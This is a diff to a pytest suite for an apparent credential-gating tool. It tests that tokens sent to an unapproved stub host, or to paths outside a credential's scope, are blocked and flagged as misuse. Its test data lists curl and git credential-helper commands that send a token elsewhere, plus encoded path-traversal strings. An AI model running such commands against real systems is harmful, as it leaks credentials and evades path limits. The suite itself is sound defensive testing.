@@ -18,6 +18,7 @@ import pytest
 
 from conftest import CANARY
 from gatekit import Answerer, hostport, netproject, servers, trust_policy
+from harness import every_case
 
 pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")
 
@@ -37,7 +38,8 @@ def setup(attacker, git, stub, tail=""):
 
 
 def leaked(srv, needle):
-    return [q for q in srv.requests
+    """The requests of `srv` (a server, or a list of its requests) that hold `needle`."""
+    return [q for q in getattr(srv, "requests", srv)
             if needle in json.dumps({k: v for k, v in q.items() if k != "body"}) or
             needle.encode() in q["body"]]
 
@@ -66,7 +68,7 @@ def test_the_real_token_is_nowhere_inside(attacker):
         assert not leaked(stub, CANARY)
 
 
-@pytest.mark.parametrize("how", [
+SENT_ELSEWHERE = [
     "curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {url}/",
     "curl -s -o /dev/null -H \"Authorization: token $MY_TOKEN\" {url}/",
     "curl -s -o /dev/null \"{url}/x?access_token=$MY_TOKEN\"",
@@ -78,19 +80,29 @@ def test_the_real_token_is_nowhere_inside(attacker):
     "git -c 'credential.helper=!f() {{ echo username=me; echo password=$MY_TOKEN; }}; f' ls-remote {url}/repo.git",
     "git -c 'url.{url}/.insteadOf={git}/' -c 'credential.{url}.helper=!f() {{ echo username=me; "
     "echo password=$MY_TOKEN; }}; f' ls-remote {git}/repo.git",
-])
-def test_the_placeholder_sent_elsewhere_is_denied_and_marked(attacker, how):
+]
+
+
+def test_the_placeholder_sent_elsewhere_is_denied_and_marked(attacker):
+    """Every way of sending it its own step, in one project and gate; each is judged on the
+    requests that reached the stub during its own step."""
     with servers(_who) as (git, stub):
         url = setup(attacker, git, stub)
-        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
-        assert ph and ph != CANARY
-        attacker.run(how.format(url=url, hp=hostport(stub, "stub.example.test"), git=git.url))
-        assert not leaked(stub, ph) and not leaked(stub, CANARY)
-        assert not [q for q in stub.requests if "authorization" in q["headers"]]
-        s = last_step(attacker)
-        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
-        bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
-        assert bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"
+
+        def check(how):
+            ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
+            assert ph and ph != CANARY
+            n = len(stub.requests)
+            attacker.run(how.format(url=url, hp=hostport(stub, "stub.example.test"), git=git.url))
+            got = stub.requests[n:]
+            assert not leaked(got, ph) and not leaked(got, CANARY), got
+            assert not [q for q in got if "authorization" in q["headers"]], got
+            s = last_step(attacker)
+            assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
+            bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
+            assert bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"
+
+        every_case(SENT_ELSEWHERE, check)
 
 
 def test_never_swapped_where_a_server_could_echo_it_back(attacker):
@@ -126,18 +138,24 @@ def test_an_approval_never_widens_a_credential(attacker):
         assert "credential-misuse" in last_step(attacker)["marks"]
 
 
-@pytest.mark.parametrize("path", ["/other", "/repo.git/../other", "/repo.git/%2e%2e/other",
-                                  "/repo.git/%252e%252e/other"])
-def test_outside_the_credential_paths_is_misuse(attacker, path):
+def test_outside_the_credential_paths_is_misuse(attacker):
+    """Every path its own step, in one project and gate, judged on what reached the git server
+    during it."""
     with servers(_who) as (git, stub):
         setup(attacker, git, stub)
         text = (attacker.root / "envgit.yaml").read_text() + "    paths: [\"/repo.git/**\"]\n"
         attacker.write_policy(text)
         trust_policy(attacker)                  # the narrowed credential, approved again
-        attacker.run(f"curl -s --path-as-is -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" "
-                     f"{git.url_for()}{path}")
-        assert not leaked(git, CANARY)
-        assert "credential-misuse" in last_step(attacker)["marks"]
+
+        def check(path):
+            n = len(git.requests)
+            attacker.run(f"curl -s --path-as-is -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" "
+                         f"{git.url_for()}{path}")
+            assert not leaked(git.requests[n:], CANARY), git.requests[n:]
+            assert "credential-misuse" in last_step(attacker)["marks"]
+
+        every_case(["/other", "/repo.git/../other", "/repo.git/%2e%2e/other", "/repo.git/%252e%252e/other"],
+                   check)
 
 
 def test_never_over_plain_http(attacker):
